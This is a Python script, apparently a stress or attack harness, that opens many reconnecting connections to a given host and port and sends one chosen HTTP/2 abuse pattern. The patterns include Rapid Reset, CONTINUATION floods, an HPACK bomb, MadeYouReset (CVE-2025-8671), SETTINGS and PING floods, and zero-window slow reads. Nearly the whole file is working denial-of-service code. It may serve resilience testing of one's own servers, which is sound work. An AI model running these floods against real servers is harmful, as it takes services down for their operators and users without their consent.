"""Abuses HTTP/2 in one way for a while, over several connections, each made again when it ends; tells how they ended.
Usage: h2_abuse.py WAY HOST PORT SECONDS CONNECTIONS. Frames and header blocks are made by hyperframe and hpack, which check nothing.
"""

import asyncio
import collections
import json
import sys
import time

import hpack
from hyperframe import frame as frames

from h2_client import CODES, PREFACE

WAY, HOST, PORT, SECONDS, CONNECTIONS = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
WINDOW_MAX = (1 << 31) - 1
told = collections.Counter()


class Patient(asyncio.StreamReader):
    """Hands out what came before a reset, too."""

    broken = False

    def set_exception(self, error):
        self.broken = True
        self.feed_eof()


def request(method="POST", path="/abuse", *fields):
    return [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *fields]


def block(fields):
    return hpack.Encoder().encode(fields)  # A fresh one: no state between blocks.


PLAIN = block(request())
GET = block(request("GET"))


def headers(stream, data=PLAIN, end=False, more=False):
    made = frames.HeadersFrame(stream, data)
    for flag, wanted in (("END_STREAM", end), ("END_HEADERS", not more)):
        if wanted:
            made.flags.add(flag)
    return made.serialize()


def data(stream, content=b"", end=False):
    return frames.DataFrame(stream, content, flags=["END_STREAM"] if end else []).serialize()


def reset(stream):
    return frames.RstStreamFrame(stream, 8).serialize()


def window(stream, increment):
    return frames.WindowUpdateFrame(stream, increment).serialize()


def each(one):
    """Endless batches of 50 streams, each of which sends what `one` says."""
    streams = iter(range(1, 1 << 30, 2))
    while True:
        yield b"".join(one(next(streams)) for _ in range(50))


def forever(piece, times=200):
    while True:
        yield piece * times


def rapid_reset():
    yield from each(lambda s: headers(s) + reset(s))


def rapid_reset_in_turns():
    """As many requests as it may have, and only when they are on their way their resets."""
    streams = iter(range(1, 1 << 30, 2))
    while True:
        some = [next(streams) for _ in range(100)]
        yield b"".join(map(headers, some))
        yield None
        yield b"".join(map(reset, some))
        yield None


def rapid_reset_with_data():
    yield from each(lambda s: headers(s) + data(s, b"x") + reset(s))


def continuation():
    yield headers(1, PLAIN, more=True)
    yield from forever(frames.ContinuationFrame(1, block([("x", "a" * 16000)])).serialize(), 4)


def continuation_of_small_fields():
    yield headers(1, PLAIN, more=True)
    yield from forever(frames.ContinuationFrame(1, block([("x", "y")])).serialize())


def empty_continuation():
    yield headers(1, PLAIN, more=True)
    yield from forever(frames.ContinuationFrame(1, b"").serialize())


def settings():
    yield from forever(frames.SettingsFrame(0, {4: 70000}).serialize())


def settings_of_the_table():
    yield from forever(frames.SettingsFrame(0, {1: 0}).serialize() + frames.SettingsFrame(0, {1: 1 << 20}).serialize())


def ping():
    yield from forever(frames.PingFrame(0, b"12345678").serialize())


def priority():
    yield from forever(frames.PriorityFrame(3, depends_on=0).serialize())


def unknown():
    yield from forever(b"\0\0\0\xbb\0\0\0\0\0")


def empty_data():
    yield headers(1)
    yield from forever(data(1))


def hpack_bomb():
    """A field of 4 KiB in the dynamic table, named again by a byte each."""
    insert = b"\x40\x01x" + b"\x7f" + (4000 - 127 & 0x7F | 0x80).to_bytes(1, "big") + (4000 - 127 >> 7).to_bytes(1, "big") + b"a" * 4000
    streams = iter(range(1, 1 << 30, 2))
    yield headers(next(streams), PLAIN + insert, end=True)
    while True:
        yield headers(next(streams), PLAIN + b"\xbe" * 15000, end=True)


def hpack_table_games():
    """The table is emptied, refilled and emptied again in every block."""
    games = b"\x20\x3f\xe1\x1f" + PLAIN + b"".join(b"\x40\x02%02d\x01y" % n for n in range(60))
    yield from each(lambda s: headers(s, games, end=True))


def malformed():
    """Requests without a method, each of which the server has to reset (MadeYouReset)."""
    bad = block(request()[1:])
    yield from each(lambda s: headers(s, bad, end=True))


def overflown_windows():
    """Requests that the server has to reset when they are under way (MadeYouReset, CVE-2025-8671)."""
    slow = block(request("GET", "/big"))
    yield from each(lambda s: headers(s, slow, end=True) + window(s, WINDOW_MAX))


def long_bodies():
    """Bodies beyond their length, which end as resets too."""
    short = block(request("POST", "/abuse", ("content-length", "1")))
    yield from each(lambda s: headers(s, short) + data(s, b"hello", end=True))


def window_updates():
    yield headers(1)
    yield from forever(window(0, 1), 400)


def held(pieces):
    """Sends and then only waits."""
    yield b"".join(pieces)
    while True:
        yield None


def zero_windows():
    yield from held([frames.SettingsFrame(0, {4: 0}).serialize(), *(headers(s, block(request("GET", "/big")), True) for s in range(1, 201, 2))])


def one_byte_windows():
    streams = range(1, 201, 2)
    yield frames.SettingsFrame(0, {4: 1}).serialize()
    yield b"".join(headers(s, block(request("GET", "/big")), True) for s in streams)
    while True:
        yield b"".join(window(s, 1) for s in streams)


def large_heads_held():
    """As many open requests as it may have, each with as large a head as it may."""
    large = block(request("POST", "/abuse", *((f"x-{n}", "a" * 10000) for n in range(6))))
    pieces = []
    for stream in range(1, 257, 2):
        parts = [large[at : at + 16384] for at in range(0, len(large), 16384)]
        pieces.append(headers(stream, parts[0], more=len(parts) > 1))
        for part in parts[1:]:
            made = frames.ContinuationFrame(stream, part)
            if part is parts[-1]:
                made.flags.add("END_HEADERS")
            pieces.append(made.serialize())
    yield from held(pieces)


def responses_unread():
    """Reads nothing of what it asked for."""
    yield window(0, WINDOW_MAX - 65535)
    yield frames.SettingsFrame(0, {4: WINDOW_MAX}).serialize()
    big = block(request("GET", "/big"))
    streams = iter(range(1, 1 << 30, 2))
    for _ in range(100):
        yield headers(next(streams), big, True)
    while True:
        yield None


async def watch(reader, state):
    """Reads until the end; remembers GOAWAY."""
    try:
        while True:
            head = await reader.readexactly(9)
            made, length = frames.Frame.parse_frame_header(memoryview(head))
            body = await reader.readexactly(length)
            if isinstance(made, frames.GoAwayFrame):
                made.parse_body(memoryview(body))
                state["goaway"] = CODES.get(made.error_code)
            if isinstance(made, frames.RstStreamFrame):
                told["streams reset"] += 1
    except asyncio.IncompleteReadError:
        state["end"] = "reset" if reader.broken else "closed"


async def one(until):
    loop = asyncio.get_running_loop()
    reader = Patient(limit=1 << 20)
    protocol = asyncio.StreamReaderProtocol(reader)
    transport, _ = await loop.create_connection(lambda: protocol, HOST, PORT)
    writer = asyncio.StreamWriter(transport, protocol, reader, loop)
    told["connections"] += 1
    state = {"goaway": None, "end": None}
    watcher = None if WAY == "responses_unread" else asyncio.create_task(watch(reader, state))
    if watcher is None:
        transport.pause_reading()
    try:
        writer.write(PREFACE + frames.SettingsFrame(0, {4: 1 << 20}).serialize())
        for piece in globals()[WAY]():
            if time.monotonic() > until:
                state["end"] = state["end"] or "still open"
                break
            if state["end"] or transport.is_closing():
                break
            if piece is None:
                await asyncio.sleep(0.01)
                continue
            writer.write(piece)
            told["bytes"] += len(piece)
            await asyncio.wait_for(writer.drain(), 3)
            await asyncio.sleep(0)
    except OSError:
        pass
    except asyncio.TimeoutError:
        state["end"] = "held up"
    if watcher:
        # What was said before the reset may still be on its way.
        await asyncio.wait([watcher], timeout=1 if state["end"] is None else 0)
        watcher.cancel()
    told[f"{state['goaway'] or 'nothing said'}, {state['end']}"] += 1
    transport.abort()


async def main():
    until = time.monotonic() + SECONDS

    async def again():
        while time.monotonic() < until:
            try:
                await one(until)
            except OSError as error:
                told[repr(error)] += 1
                await asyncio.sleep(0.05)

    await asyncio.gather(*(again() for _ in range(CONNECTIONS)))
    print(json.dumps(told), flush=True)


asyncio.run(main())
